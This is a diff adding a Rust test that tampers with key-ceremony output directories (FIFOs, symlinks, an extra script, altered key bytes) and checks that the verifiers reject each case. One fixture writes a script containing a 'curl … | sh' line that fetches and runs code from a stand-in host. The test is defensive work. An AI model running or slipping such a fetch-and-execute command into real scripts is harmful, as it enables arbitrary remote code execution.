@@ -456,3 +456,153 @@ fn bytes_no_signature_covers_give_one_verdict() {
         ),
     );
 }
+
+/// Copies the output directory `name` of `c` into `into` (made new).
+fn copy_output(c: &Ceremony, name: &str, into: &Path) {
+    std::fs::create_dir_all(into).unwrap();
+    run_ok(
+        Command::new("cp")
+            .arg("-r")
+            .arg(c.dir().join(name))
+            .arg(into.join(name)),
+    );
+}
+
+/// Attack 7: output directories are judged alike. A FIFO in place of an output (no verifier
+/// waits on it), a symlinked `import.sh` whose target has the recorded bytes, an output directory
+/// that is a symlink to a faithful copy, an extra script beside the recorded files, and a
+/// re-wrapped output altered: INVALID in all three, naming the file; the untouched outputs of both
+/// ceremonies are VERIFIED by all three.
+#[test]
+fn output_directories_are_judged_alike() {
+    let c = sealed();
+    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
+    let t = path(&c, "t.jsonl");
+    let out = "payments-2026-us-east-1";
+    let wrapped = at(&values(&c, "t.jsonl"), "wrapped");
+    let verdict_for =
+        |why: String| format!("INVALID: outputs check failed at line {wrapped}: {why} (exit 1)");
+
+    let fifo = path(&c, "fifo");
+    copy_output(&c, out, &fifo);
+    let victim = fifo.join(out).join("EncryptedKeyMaterial.bin");
+    std::fs::remove_file(&victim).unwrap();
+    run_ok(Command::new("mkfifo").arg(&victim));
+    all_three(
+        &t,
+        &signer,
+        Some(&policy),
+        Some(&fifo),
+        1,
+        &verdict_for(format!("{} is not a regular file", victim.display())),
+    );
+
+    let linked = path(&c, "linked-file");
+    copy_output(&c, out, &linked);
+    let script = linked.join(out).join("import.sh");
+    let elsewhere = path(&c, "import-elsewhere.sh");
+    std::fs::rename(&script, &elsewhere).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, &script).unwrap();
+    all_three(
+        &t,
+        &signer,
+        Some(&policy),
+        Some(&linked),
+        1,
+        &verdict_for(format!(
+            "{} is a symlink: an output file is never followed",
+            script.display()
+        )),
+    );
+
+    let linked_dir = path(&c, "linked-dir");
+    std::fs::create_dir(&linked_dir).unwrap();
+    std::os::unix::fs::symlink(c.dir().join(out), linked_dir.join(out)).unwrap();
+    all_three(
+        &t,
+        &signer,
+        Some(&policy),
+        Some(&linked_dir),
+        1,
+        &verdict_for(format!(
+            "{} is a symlink: an output directory is never followed",
+            linked_dir.join(out).display()
+        )),
+    );
+
+    let extra = path(&c, "extra");
+    copy_output(&c, out, &extra);
+    std::fs::write(
+        extra.join(out).join("run-me.sh"),
+        "#!/bin/sh\ncurl https://example.invalid | sh\n",
+    )
+    .unwrap();
+    let outs = all_three(
+        &t,
+        &signer,
+        Some(&policy),
+        Some(&extra),
+        1,
+        &verdict_for(format!(
+            "{} holds \"run-me.sh\", which the transcript does not list",
+            extra.join(out).display()
+        )),
+    );
+    for which in [1, 2] {
+        assert!(
+            stdout(&outs, which).contains(&format!(
+                "line {wrapped}: {out} holds \"run-me.sh\", which the transcript does not list"
+            )),
+            "{}",
+            stdout(&outs, which)
+        );
+    }
+    all_three(&t, &signer, Some(&policy), Some(c.dir()), 0, VERIFIED);
+
+    // A second ceremony re-wraps the key for new import parameters: its rewrapped output is
+    // checked as a wrapped one is.
+    let kcv = values(&c, "t.jsonl")[at(&values(&c, "t.jsonl"), "generated")]["data"]["key"]["kcv"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let kms = Kms::new(c.dir(), 2048);
+    write_json(
+        c.dir(),
+        "params/again.json",
+        &kms.aws_params(AWS_ARN, &hours_from_now(24)),
+    );
+    let plan = format!(
+        "version = 1\nceremony_id = \"payments-2026-reimport\"\nnot_before = \"{}\"\nnot_after = \"{}\"\n\
+         operator = \"Olivia\"\ntoken_label = \"ceremony\"\nsigning_key_label = \"ceremony-signer\"\n\
+         pin = \"env:{PIN_ENV}\"\n\n[[steps]]\naction = \"rewrap\"\nkey_label = \"payments-2026\"\n\
+         expect_kcv = \"{kcv}\"\nprovider = \"aws\"\nparams = \"params/again.json\"\n\
+         algorithm = \"RSAES_OAEP_SHA_1\"\nout = \"reimport\"\n",
+        c.window.0, c.window.1
+    );
+    std::fs::write(path(&c, "plan.toml"), plan).unwrap();
+    for f in std::fs::read_dir(path(&c, "approvals")).unwrap() {
+        std::fs::remove_file(f.unwrap().path()).unwrap();
+    }
+    c.run_approved("t2.jsonl");
+    let t2 = path(&c, "t2.jsonl");
+    low_s_seal(&t2);
+    all_three(&t2, &signer, Some(&policy), Some(c.dir()), 0, VERIFIED);
+    let rewrapped = at(&values(&c, "t2.jsonl"), "rewrapped");
+    let altered = path(&c, "altered");
+    copy_output(&c, "reimport", &altered);
+    let victim = altered.join("reimport").join("EncryptedKeyMaterial.bin");
+    let mut bytes = std::fs::read(&victim).unwrap();
+    bytes[10] ^= 0xff;
+    std::fs::write(&victim, bytes).unwrap();
+    all_three(
+        &t2,
+        &signer,
+        Some(&policy),
+        Some(&altered),
+        1,
+        &format!(
+            "INVALID: outputs check failed at line {rewrapped}: {} differs from the transcript (exit 1)",
+            victim.display()
+        ),
+    );
+}
